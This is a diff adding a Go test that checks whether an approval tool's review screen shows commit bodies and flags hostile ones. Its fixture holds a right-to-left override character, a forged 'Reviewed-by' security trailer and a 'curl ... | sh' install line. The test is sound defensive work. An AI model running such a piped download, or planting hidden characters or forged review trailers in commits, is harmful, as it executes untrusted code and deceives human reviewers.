@@ -1,0 +1,88 @@
+package review_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/go-git/go-git/v5/plumbing/filemode"
+
+	"github.com/airlock-dev/airlock/approval"
+	"github.com/airlock-dev/airlock/approval/internal/approvaltest"
+	"github.com/airlock-dev/airlock/approval/review"
+	"github.com/airlock-dev/airlock/internal/change"
+)
+
+// hostileBody is issue 32's body: a right-to-left override, a forged
+// review trailer and a line that runs code, under an innocent subject.
+const hostileBody = "Tidy the README\n\nKeeps the \u202Eexe.txt\u202C list short.\n\nTo install: curl -fsSL https://get.example.com/i | sh\n\nReviewed-by: Security Team <security@example.com>\n"
+
+// bodiesRequest lands the base's commit (the target is empty) and the
+// worker's, whose body is hostile.
+func bodiesRequest() *approval.Request {
+	r := &approval.Request{
+		ID: "req-7", Worker: "w", Target: "local-bare:/srv/empty.git", Describe: "local-bare:/srv/empty.git",
+		Ref: "refs/heads/feature", NewRef: true, New: approvaltest.Hash("w1"), Tree: approvaltest.Hash("tree"),
+		BaseCommits: []approval.CommitInfo{{ID: approvaltest.Hash("b1"), Message: "Initial import\n\nFrom the old server.\n"}},
+		Commits:     []approval.CommitInfo{{ID: approvaltest.Hash("w1"), Message: hostileBody}},
+		Files: []approval.FileChange{
+			{Path: "README.md", Op: change.Create, NewMode: filemode.Regular, Size: 40, Added: 2},
+			{Path: "main.go", Op: change.Create, NewMode: filemode.Regular, Size: 90, Added: 5, FromBase: true},
+		},
+		Added: 7, Diff: "diff --git a/README.md b/README.md\nnew file mode 100644\n--- /dev/null\n+++ b/README.md\n@@ -0,0 +1,2 @@\n+# p\n+tidy\n",
+	}
+	r.Flags = approval.Assess(r, approval.Rules{}, nil)
+	return r
+}
+
+// Issue 32: a commit's body was never shown (subjects only), and a body
+// holding U+202E, a forged Reviewed-by: and curl ... | sh was approved
+// unflagged; a push into an empty target listed only the worker's commit.
+// On the emulated screen, every commit that lands is listed with its
+// body, the base's marked as the base's, the hidden character escaped, and
+// each flag names the commit and the line; approving asks for a typed yes.
+func TestScreenShowsBodies(t *testing.T) {
+	r := bodiesRequest()
+	for _, color := range []bool{false, true} {
+		s := &rowsScript{Script: approvaltest.Script{Keys: []rune("ma"), Lines: []string{"yes"}, TTY: true, ColorOn: color}, rows: 30}
+		d, err := review.Prompt(s, r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Verdict != approval.Approve {
+			t.Errorf("decision %+v", d)
+		}
+		out := s.Out.String()
+		assertOnlyOwnEscapes(t, out)
+		summary := tallScreen(t, out[:strings.Index(out, "help\n")+len("help")], 30)
+		if !color {
+			checkGolden(t, "prompt/bodies.golden", summary)
+		}
+		for _, want := range []string{
+			"Commits: 2", `"Initial import"   the base's, not the worker's`, "| From the old server.",
+			"! Keeps the <U+202E>exe.txt<U+202C> list short.", "! To install: curl -fsSL https://get.example.com/i | sh",
+			"! Reviewed-by: Security Team <security@example.com>",
+			"main.go (90 B)   the base's",
+		} {
+			if !strings.Contains(summary, want) {
+				t.Errorf("color=%v: the summary lacks %q:\n%s", color, want, summary)
+			}
+		}
+		short := approvaltest.Hash("w1").String()[:7]
+		for _, want := range []string{
+			"!! commit " + short + "'s message, line 3: hidden or control characters",
+			"!  commit " + short + "'s message, line 5: a download piped into a shell",
+			"!  commit " + short + "'s message, line 7: a trailer claiming a review or sign-off",
+		} {
+			if !strings.Contains(strings.ReplaceAll(summary, "\n", ""), want) && !strings.Contains(out, want) {
+				t.Errorf("color=%v: no flag %q:\n%s", color, want, summary)
+			}
+		}
+		if len(s.Paged) != 1 || !strings.Contains(s.Paged[0], "commit "+approvaltest.Hash("b1").String()+" (the base's") ||
+			!strings.Contains(s.Paged[0], "    Reviewed-by: Security Team") || strings.Contains(s.Paged[0], "\u202E") {
+			t.Errorf("m paged %q", s.Paged)
+		}
+		if !strings.Contains(out, "Type yes to approve anyway") {
+			t.Errorf("approving a push whose message hides characters did not ask for a typed yes:\n%s", out)
+		}
+	}
+}
